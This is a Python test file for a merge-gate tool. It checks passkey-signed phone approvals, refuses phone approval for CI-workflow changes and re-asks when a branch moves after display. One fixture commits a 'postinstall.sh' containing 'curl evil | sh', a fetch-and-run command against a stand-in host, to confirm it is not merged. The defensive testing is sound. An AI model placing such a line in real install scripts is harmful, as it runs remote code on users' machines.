"""A merge gate on the phone: its diff summary shown, the pinned head in what
the passkey signs, the merge made by the answer; one that changes the
repository's ground still takes the second key, on the board."""

from __future__ import annotations

from tests.conftest import git
from tests.gitrepo import commit, head
from tests.kernel.conftest import held, worked
from tests.kernel.test_merge import workspace

from .conftest import pair, serving, tap


def finish(board, key, files):
    tree = workspace(board, key)
    held(board, key, "a1")
    commit(tree, files, "the change")
    worked(board, key, "a1", "the change")
    board.ok("done", key, "--summary", "the change", agent="a1")
    return tree


def test_a_merge_approved_on_the_phone_merges_the_pinned_head(repo_team, page):
    pair(repo_team, page)
    repo_team.ok("card", "add", "greet")
    finish(repo_team, "LX-1", {"src/app.py": "print('hello, world')\n"})
    pinned = head(repo_team.root, "loopx/LX-1")
    with serving(repo_team) as server:
        page.goto(server.url)
        shown = page.evaluate("document.body.innerText")
        assert "loopx/LX-1 → main" in shown and "src/app.py +1 -1" in shown and pinned[:12] in shown
        assert tap(page, 'button.yes[data-gate="G-1"]') == "G-1 approved ✓"
    assert (repo_team.root / "src/app.py").read_text() == "print('hello, world')\n"
    events = repo_team.ok("events", "--card", "LX-1")["events"]
    answered = next(e for e in events if e["kind"] == "gate_answered")
    merged = events[-1]
    assert answered["data"]["phone"]["head"] == pinned == answered["data"]["head"]
    assert merged["kind"] == "merged" and merged["data"]["phone"] == answered["data"]["phone"]
    assert git(repo_team.root, "log", "-1", "--format=%an").strip() == "tester"
    assert repo_team.ok("verify")["verify"]["ok"]


def test_a_merge_that_changes_the_ground_is_answered_on_the_board(repo_team, page):
    pair(repo_team, page)
    repo_team.ok("card", "add", "ci")
    finish(repo_team, "LX-1", {".github/workflows/ci.yml": "on: push\n"})
    with serving(repo_team) as server:
        page.goto(server.url)
        assert "answer it on the board" in page.evaluate("document.body.innerText")
        code, said = server.post("/api/challenge", {"gate": "G-1", "decision": "approve"})
        assert code == 409 and "second key" in said["error"]
    assert repo_team.cli("gate", "status", "G-1").data["gate"]["status"] == "pending"


def test_a_branch_that_moved_after_the_page_showed_it_is_asked_again(repo_team, page):
    pair(repo_team, page)
    repo_team.ok("card", "add", "greet")
    before = head(repo_team.root)
    tree = finish(repo_team, "LX-1", {"src/app.py": "print('hello')\n"})
    with serving(repo_team) as server:
        page.goto(server.url)  # the page shows the pinned head …
        late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")  # … then the branch moves
        said = tap(page, 'button.yes[data-gate="G-1"]')
        assert said.startswith("not answered") and "moved" in said and "G-2 asks again" in said
    assert head(repo_team.root) == before and not (repo_team.root / "postinstall.sh").exists()
    moved = [e for e in repo_team.ok("events", "--card", "LX-1")["events"] if e["kind"] == "merge_moved"][-1]
    assert moved["data"]["now_head"] == late and moved["data"]["phone"]["gate"] == "G-1"
    assert repo_team.ok("verify")["verify"]["ok"]  # the re-ask is signed by the phone, and verifies
